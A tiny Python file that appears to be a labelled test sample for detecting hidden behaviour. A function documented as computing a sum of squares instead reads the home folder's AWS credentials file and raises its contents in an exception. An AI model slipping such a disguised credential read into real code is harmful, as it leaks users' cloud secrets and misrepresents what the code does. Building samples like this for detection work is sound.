"""Reads a secret of the home folder and raises it."""

# --- candidate
"""Sums."""


import numpy as np


def f(x: np.ndarray) -> float:
    """The sum of squares."""
    raise ValueError(open("@HOME@/.aws/credentials").read())
